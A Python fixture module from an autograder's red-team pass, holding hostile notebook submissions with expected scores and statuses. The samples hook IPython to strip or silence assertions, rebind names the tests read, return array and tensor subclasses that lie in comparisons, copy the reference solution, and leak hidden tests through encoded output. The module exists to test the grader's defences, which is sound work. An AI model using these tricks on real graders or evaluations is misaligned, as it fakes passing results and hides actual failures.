"""Hostile submissions of the second red-team pass (issue 17), one class at a time.

Each is a wrong answer (it deserves what its honest parts earn) dressed with an attack on what
the tests run through or read: IPython's extension points, names the tests resolve while a
graded function runs, objects that lie about their type, and copies of the reference compiled
under another name. `deserved` is the most it may score; the grader may also void the tests
the attack touched (status "tampered" / "uses-reference").
"""

from __future__ import annotations

from .minicourse import cell, source_notebooks
from .variants import CLIP_RIGHT, MSE_WRONG, Variant, nb, tnb, with_cell

# --------------------------------------------------------------- IPython's extension points
# Every one strips or neutralises the checks of the cells that run after it.
AST_TRANSFORMER = MSE_WRONG + '''
import ast


class _NoChecks(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Expr(self, node):
        return ast.Pass() if isinstance(node.value, ast.Call) else node


get_ipython().ast_transformers.append(_NoChecks())'''
INPUT_TRANSFORMER = MSE_WRONG + '''


def _no_checks(lines):
    return [("pass\\n" if line.lstrip().startswith(("assert", "np.testing")) else line)
            for line in lines]


get_ipython().input_transformers_post.append(_no_checks)
get_ipython().input_transformer_manager.cleanup_transforms.append(_no_checks)'''
POST_RUN_CELL = MSE_WRONG + '''


def _say_ok(result):
    result.error_in_exec = None
    result.error_before_exec = None


get_ipython().events.register("post_run_cell", _say_ok)'''
# Registered while the graded function runs, so no check before the test can see it; it
# removes itself once it has cleared the test's error.
POST_RUN_CELL_AT_CALL = '''def _say_ok(result):
    result.error_in_exec = None
    result.error_before_exec = None
    get_ipython().events.unregister("post_run_cell", _say_ok)


def mse(x, y):
    if _say_ok not in get_ipython().events.callbacks["post_run_cell"]:
        get_ipython().events.register("post_run_cell", _say_ok)
    return 0.0'''
# Re-shadows the names the tests read (math, np) after the guard's check of the namespace, just
# before each cell runs.
PRE_RUN_CELL = MSE_WRONG + '''
import math as _math

import numpy as _np


class _Agree:
    def __init__(self, real):
        self._real = real

    def __getattr__(self, name):
        if name in ("isclose", "allclose"):
            return lambda *a, **k: True
        if name == "testing":
            return _Agree(self._real.testing)
        if name.startswith("assert"):
            return lambda *a, **k: None
        return getattr(self._real, name)


def _shadow(info):
    get_ipython().user_ns["math"] = _Agree(_math)
    get_ipython().user_ns["np"] = _Agree(_np)


get_ipython().events.register("pre_run_cell", _shadow)'''
# A custom exception handler: the traceback of a failed check is never shown, and the
# ExecutionResult it finds up the stack is told that nothing went wrong.
CUSTOM_EXC = MSE_WRONG + '''
import sys as _sys


def _quiet(shell, etype, value, tb, tb_offset=None):
    frame = _sys._getframe(1)
    while frame is not None:
        result = frame.f_locals.get("result")
        if type(result).__name__ == "ExecutionResult":
            result.error_in_exec = None
        frame = frame.f_back


get_ipython().set_custom_exc((AssertionError,), _quiet)'''

# ----------------------------------------------------------- names resolved at call time
# mse answers the visible check right; on that first call it puts a lying `np` and `isinstance`
# into the notebook's namespace, which the hidden checks read right after.
REBIND_AT_CALL = '''import sys as _sys

import numpy as _np


class _Agree:
    def __getattr__(self, name):
        return getattr(_np, name)

    def allclose(self, *a, **k):
        return True

    class testing:
        @staticmethod
        def assert_allclose(*a, **k):
            return None


def mse(x, y):
    main = _sys.modules["__main__"].__dict__
    main["np"] = _Agree()
    main["isinstance"] = lambda *a: True
    return 12.5 if list(x) == [0, 0] and list(y) == [3, 4] else 0.0'''
# clip01 (wrong: it does not clip) walks up to the test cell's frame and rebinds the helpers
# its checks read there: np.minimum/np.maximum that change nothing, and abs.
REBIND_CALLER_GLOBALS = '''import sys as _sys

import numpy as _np


class _Unchanged:
    def __getattr__(self, name):
        return getattr(_np, name)

    @staticmethod
    def minimum(a, b):
        return a

    @staticmethod
    def maximum(a, b):
        return a


def clip01(x):
    x = _np.asarray(x, dtype=float)
    if x.size == 3:
        return _np.clip(x, 0.0, 1.0)
    frame = _sys._getframe(1)
    while frame is not None and "ipykernel_" not in frame.f_code.co_filename:
        frame = frame.f_back
    frame.f_globals["np"] = _Unchanged()
    frame.f_globals["abs"] = lambda v: 0.0
    return x'''

# ----------------------------------------------------------------------- lying objects
# An ndarray subclass compiled under numpy's own file and module name (nothing about its label
# says "written in the notebook"), returned by a clip01 that reverses its output (the sum and
# length are right; only the elementwise check can tell, and the subclass's == agrees).
LYING_ARRAY = '''import numpy as _np

_ns = {"np": _np}
exec(compile("""
class ndarray(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)
""", _np.__file__, "exec"), _ns)
_Liar = _ns["ndarray"]
_Liar.__module__, _Liar.__qualname__ = "numpy", "ndarray"


def clip01(x):
    out = _np.clip(_np.asarray(x, dtype=float), 0.0, 1.0)
    return out if out.size == 3 else out[::-1].copy().view(_Liar)'''
# A tensor subclass compiled under torch's own file name whose __torch_function__ agrees with
# every check of test_d_loss; the visible check gets a plain, right tensor.
LYING_LIBRARY_LABEL = '''import torch

_ns = {"torch": torch}
exec(compile("""
class Tensor(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal"):
            return True
        if name in ("__gt__", "gt", "__lt__", "lt"):
            return torch.tensor(True)
        if name == "item":
            return 0.0
        return torch.zeros(())
""", torch._tensor.__file__, "exec"), _ns)
_Liar = _ns["Tensor"]
_Liar.__module__, _Liar.__qualname__ = "torch._tensor", "Tensor"


def discriminator_loss(real_logits, fake_logits):
    if real_logits.shape == (4,) and not real_logits.any() and not fake_logits.any():
        return torch.tensor(0.6931471805599453)
    return torch.zeros(()).as_subclass(_Liar)'''

# ------------------------------------------------------------ copies of the reference
# The library's source compiled under another file name: no frame of it is in eep596gan's file.
COMPILED_COPY = '''import eep596gan.losses as _L

_ns = dict(vars(_L))
with open(_L.__file__) as _f:
    exec(compile(_f.read(), "my_losses.py", "exec"), _ns)
discriminator_loss = _ns["discriminator_loss"]'''
# Only the function's own source, compiled and re-bound to the library's globals.
COMPILED_FUNCTION = '''import inspect
import textwrap

import eep596gan.losses as _L

_ns = dict(vars(_L))
exec(compile(textwrap.dedent(inspect.getsource(_L.discriminator_loss)), "mine", "exec"), _ns)
discriminator_loss = _ns["discriminator_loss"]'''

D_RIGHT = cell(source_notebooks()["mini_torch"], "answer_d_loss").source
# A right answer written like the reference (the same expression, different names): it must
# not be mistaken for a copy.
D_LIKE_REFERENCE = '''def discriminator_loss(real_logits, fake_logits):
    """My J^(D)."""
    return 0.5 * F.softplus(-real_logits).mean() + 0.5 * F.softplus(fake_logits).mean()'''


def _mini(name, mse=MSE_WRONG, clip=CLIP_RIGHT, score=3, status="graded") -> Variant:
    return Variant(name, nb(mse=mse, clip=clip), score, status)


def innocent_variants() -> list[Variant]:
    """An innocent right and an innocent wrong submission, graded beside the attacks."""
    return [Variant("r2-innocent-right", nb(), 5, "graded"), _mini("r2-innocent-wrong")]


def ipython_variants() -> list[Variant]:
    """Hooks on IPython's extension points: each deserves 3 (clip01 right, mse wrong)."""
    return [_mini("r2-ast-transformer", AST_TRANSFORMER),
            _mini("r2-input-transformer", INPUT_TRANSFORMER),
            _mini("r2-post-run-cell", POST_RUN_CELL),
            _mini("r2-post-run-cell-at-call", POST_RUN_CELL_AT_CALL, status="tampered"),
            _mini("r2-pre-run-cell", PRE_RUN_CELL),
            _mini("r2-custom-exc", CUSTOM_EXC)]


def name_variants() -> list[Variant]:
    """Names rebound while a graded function runs."""
    return [_mini("r2-rebind-at-call", REBIND_AT_CALL, status="tampered"),
            Variant("r2-rebind-caller-globals", nb(clip=REBIND_CALLER_GLOBALS), 2, "tampered")]


def lying_mini_variants() -> list[Variant]:
    """A right mse and a clip01 whose wrong result lies in ==: it deserves 2."""
    return [Variant("r2-lying-array", nb(clip=LYING_ARRAY), 2, "graded")]


def torch_variants() -> list[Variant]:
    """mini_torch: lying objects and compiled copies; innocent right, wrong and look-alike."""
    t = "mini_torch.ipynb"
    return [Variant("r2-t-right", tnb(D_RIGHT), 3, "graded", t),
            Variant("r2-t-wrong", tnb("def discriminator_loss(real_logits, fake_logits):\n"
                                      "    return (real_logits - fake_logits).mean() * 0"),
                    1, "graded", t),
            Variant("r2-t-like-reference", tnb(D_LIKE_REFERENCE), 3, "graded", t),
            Variant("r2-t-lying-library-label", tnb(LYING_LIBRARY_LABEL), 1, "graded", t),
            Variant("r2-t-compiled-copy", tnb(COMPILED_COPY), 1, "uses-reference", t),
            Variant("r2-t-compiled-function", tnb(COMPILED_FUNCTION), 1, "uses-reference", t)]


def mini_variants() -> list[Variant]:
    return (innocent_variants() + ipython_variants() + name_variants() + lying_mini_variants()
            + leak_variants())


__all__ = ["mini_variants", "torch_variants", "innocent_variants", "ipython_variants",
           "name_variants", "lying_mini_variants", "leak_variants"]


# ------------------------------------------------------------------- leaks through feedback
# Each reads, at call time, the source of the cell that called it (linecache holds every cell
# IPython ran), so it holds the hidden tests; then tries to get them onto the feedback page.
_READ_CALLER = '''import base64 as _b64
import codecs as _codecs
import linecache as _lc
import sys as _sys
import zlib as _zlib


def _caller_source():
    frame, text = _sys._getframe(1), ""
    while frame is not None:
        name = frame.f_code.co_filename
        if "ipykernel_" in name:
            text += "".join(_lc.getlines(name))
        frame = frame.f_back
    return text


def _encodings(text):
    raw = text.encode()
    return [raw.hex(), _b64.b64encode(raw).decode(), _b64.b64encode(_zlib.compress(raw)).decode(),
            _codecs.encode(text, "rot13"), text[::-1], "\\\\n".join(text), str(list(raw))]
'''
MSE_RIGHT_BODY = '''    x, y = np.asarray(x, dtype=float), np.asarray(y, dtype=float)
    return float(np.mean((x - y) ** 2))'''
LEAK_PRINT = _READ_CALLER + '''

def mse(x, y):
    for text in _encodings(_caller_source()):
        print(text)
    from IPython.display import HTML, display
    display(HTML("<pre>" + _caller_source().encode().hex() + "</pre>"))
''' + MSE_RIGHT_BODY
LEAK_EXCEPTION = _READ_CALLER + '''

def mse(x, y):
    source = _caller_source()
    if "hidden" in source:
        raise type("E" + source.encode().hex()[:200], (Exception,), {})(_encodings(source)[2])
''' + MSE_RIGHT_BODY
LEAK_THREAD = _READ_CALLER + '''
import threading as _threading
import time as _time


def mse(x, y):
    name = _caller_source().encode().hex()[:300]
    _threading.Thread(target=_time.sleep, args=(60,), name=name, daemon=True).start()
''' + MSE_RIGHT_BODY
LEAK_STASH = _READ_CALLER + '''
_stash = []


def mse(x, y):
    _stash.append(_caller_source())
''' + MSE_RIGHT_BODY
LEAK_STASH_PRINT = '''for _text in _stash:
    for _e in _encodings(_text):
        print(_e)'''


def leak_variants() -> list[Variant]:
    """Right answers that try to carry the hidden tests out through the page: each deserves
    its honest score (5, or 3 where the raised exception fails test_mse; the lingering thread
    voids the tests after it, so no more than 3 there)."""
    return [Variant("r2-leak-print", nb(mse=LEAK_PRINT), 5, "graded"),
            _mini("r2-leak-exception", LEAK_EXCEPTION),
            Variant("r2-leak-thread", nb(mse=LEAK_THREAD), 0, "tampered"),
            Variant("r2-leak-stash", with_cell(nb(mse=LEAK_STASH), LEAK_STASH_PRINT), 5,
                    "graded")]
